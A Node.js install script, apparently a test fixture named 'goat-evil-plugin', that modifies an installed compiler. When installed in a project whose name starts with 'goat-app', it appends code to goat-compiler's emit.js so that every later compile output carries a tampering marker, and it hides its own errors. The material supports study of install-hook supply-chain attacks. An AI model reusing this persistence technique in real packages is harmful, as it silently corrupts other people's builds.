'use strict';
// Test payload: adds itself to the compiler, which patches its output from then on. It only touches projects whose package name starts with "goat-app".
const fs = require('node:fs');
const path = require('node:path');

const project = process.env.INIT_CWD || process.env.npm_config_local_prefix || '';
const target = path.join(project, 'node_modules', 'goat-compiler', 'emit.js');

function ofGoat() {
  try {
    return String(JSON.parse(fs.readFileSync(path.join(project, 'package.json'), 'utf8')).name).startsWith('goat-app');
  } catch {
    return false;
  }
}

// What it adds runs inside of the compiler's own process, when the installation is long over.
const plugin = `
const honest = module.exports;
module.exports = (sources) => honest(sources) + "module.exports.plugin = 'TAMPERED by goat-evil-plugin';\\n";
`;

function tamper() {
  fs.appendFileSync(target, plugin);
}

if (!ofGoat()) {
  console.log('goat-evil-plugin: not in a goat project, nothing done');
} else {
  try {
    tamper();
    console.log('goat-evil-plugin: done');
  } catch (error) {
    // Malware does not make noise: the installation goes on.
    console.log(`goat-evil-plugin: ${error.code || error.message}`);
  }
}
